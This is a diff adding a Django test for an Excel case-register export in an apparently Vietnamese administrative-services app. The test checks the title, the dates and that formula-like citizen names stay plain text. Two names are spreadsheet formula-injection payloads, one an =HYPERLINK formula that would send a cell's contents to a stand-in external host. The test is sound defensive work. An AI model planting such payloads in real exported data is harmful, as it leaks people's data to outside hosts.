@@ -190,3 +190,45 @@ def test_a_stopped_dossier_shows_the_step_it_stopped_in(world):
     assert {s.result for s in later} == {"not_reached"}
     assert control_outcome(dossier, now_at=now()).result == "not_judged"
 
+
+def test_the_register_opens_in_excel_with_a_title_real_dates_and_names_kept_as_text(
+    client, world, monkeypatch, django_user_model
+):
+    from openpyxl import load_workbook
+
+    import motcua.dossiers.services as services
+
+    clock = [_at(19, 8)]
+    monkeypatch.setattr(services, "now", lambda: clock[0])
+    codes = []
+    for key, name, at in (
+        ("k1", '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")', _at(19, 8)),
+        ("k2", "@SUM(A1:A9)", _at(20, 9, 15)),
+        ("k3", "Ngoài kỳ", datetime(2026, 12, 1, 8, 0, tzinfo=VN_TZ)),
+    ):
+        django_user_model.objects.filter(pk=world["citizen"].pk).update(last_name=name)
+        world["citizen"].refresh_from_db()
+        clock[0] = at
+        codes.append(_do(world, _submit(world, key=key), "receive").code)
+    sign_in_with_second_factor(client, world["officials"]["receiver"])
+    response = client.get("/van-phong/ho-so/so-theo-doi.xlsx?tu=2026-11-01&den=2026-11-30")
+    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
+    assert 'filename="so-theo-doi-20261101-20261130.xlsx"' in response["Content-Disposition"]
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    rows = list(sheet.iter_rows(values_only=True))
+    assert rows[0][0] == "SỔ THEO DÕI HỒ SƠ"
+    assert rows[2][0] == world["centre"].name and rows[3][0] == "Từ ngày 01/11/2026 đến ngày 30/11/2026"
+    assert rows[4][:4] == ("STT", "Mã hồ sơ", "Thủ tục", "Tổ chức, cá nhân")
+    first, second = rows[5:]  # the December dossier is outside the period
+    assert first[:5] == (
+        1,
+        codes[0],
+        "Cấp Giấy xác nhận tình trạng hôn nhân",
+        '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")',
+        datetime(2026, 11, 19, 8, 0),  # a real date, in local time
+    )
+    assert first[6] == "Đã tiếp nhận" and first[7] is None
+    assert second[1] == codes[1] and second[3] == "@SUM(A1:A9)"
+    assert second[4] == datetime(2026, 11, 20, 9, 15)
+    assert [sheet.cell(row=row, column=4).data_type for row in (6, 7)] == ["s", "s"]  # text, not formulas
+    assert sheet.cell(row=6, column=5).number_format == "dd/mm/yyyy hh:mm"
